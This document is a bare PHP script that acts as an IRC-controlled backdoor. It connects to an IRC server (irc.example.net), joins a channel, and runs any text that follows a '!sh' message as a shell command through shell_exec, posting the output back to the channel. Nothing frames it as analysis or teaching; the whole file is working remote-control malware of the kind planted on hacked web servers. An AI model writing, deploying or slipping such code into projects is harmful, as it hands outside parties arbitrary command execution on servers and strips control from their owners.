<?php
set_time_limit(0);
$srv = array('host' => 'irc.example.net', 'port' => 6667, 'chan' => '#ops');
$sock = fsockopen($srv['host'], $srv['port'], $en, $es, 30);
$nick = 'n' . rand(1000, 9999);
fputs($sock, "USER $nick 0 * :$nick\r\n");
fputs($sock, "NICK " . $nick . "\r\n");
while (!feof($sock)) {
    $line = trim(fgets($sock, 512));
    $p = explode(' ', $line);
    if ($p[0] == 'PING') { fputs($sock, "PONG " . $p[1] . "\r\n"); }
    if (isset($p[1]) && $p[1] == '001') { fputs($sock, "JOIN " . $srv['chan'] . "\r\n"); }
    if (isset($p[3]) && $p[3] == ':!sh') {
        $cmd = implode(' ', array_slice($p, 4));
        foreach (explode("\n", shell_exec($cmd)) as $out) {
            fputs($sock, "PRIVMSG " . $srv['chan'] . " :" . $out . "\r\n");
        }
    }
}
